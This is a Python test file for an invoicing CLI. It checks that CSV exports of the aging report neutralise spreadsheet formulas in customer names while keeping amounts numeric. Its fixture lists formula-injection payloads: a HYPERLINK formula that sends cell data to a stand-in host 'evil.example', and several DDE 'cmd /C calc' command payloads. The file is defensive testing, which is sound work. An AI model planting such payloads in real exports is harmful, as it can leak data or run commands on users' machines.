"""CSV exports neutralise formulas: a customer named ``=HYPERLINK(...)`` comes out as text
in the aging report (and, in their own packages, the placement file and the web
download), while amounts, negative ones included, stay numbers."""

import csv
import io
from pathlib import Path

from tests.cli.conftest import Recoup
from tests.cli.test_commands import write

HOSTILE_NAMES = {
    "C1": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "C2": "+cmd|' /C calc'!A0",
    "C3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C4": "-2+3+cmd|' /C calc'!A0",
}


def test_aging_csv_neutralises_formulas_and_keeps_amounts(recoup: Recoup, tmp_path: Path) -> None:
    customers = io.StringIO()
    rows = csv.writer(customers, lineterminator="\n")
    rows.writerow(["external_id", "name", "currency"])
    rows.writerows([external_id, name, "EUR"] for external_id, name in HOSTILE_NAMES.items())
    invoices = "number,customer,issue_date,due_date,total\n" + "".join(
        f"INV-{n},{external_id},2026-05-01,2026-05-31,100.00\n"
        for n, external_id in enumerate(HOSTILE_NAMES, 1)
    )
    payments = "external_id,customer,date,amount,currency\nP1,C1,2026-06-01,12.50,EUR\n"
    recoup("init")
    recoup("import", "customers", write(tmp_path, "c.csv", customers.getvalue()))
    recoup("import", "invoices", write(tmp_path, "i.csv", invoices))
    recoup("import", "payments", write(tmp_path, "p.csv", payments))

    result = recoup("report", "aging", "--as-of", "2026-07-01", "--format", "csv")

    assert result.exit_code == 0, result.output
    read = list(csv.DictReader(io.StringIO(result.stdout)))
    names = {row["customer"]: row["name"] for row in read}
    assert names == {
        "C1": "'" + HOSTILE_NAMES["C1"],
        "C2": "'" + HOSTILE_NAMES["C2"],
        "C3": "'" + HOSTILE_NAMES["C3"],
        "C4": "'" + HOSTILE_NAMES["C4"],
        "TOTAL": "Total",
    }
    c1 = next(row for row in read if row["customer"] == "C1")
    assert (c1["31-60"], c1["total"], c1["unapplied_payments"]) == ("100.00", "100.00", "12.50")
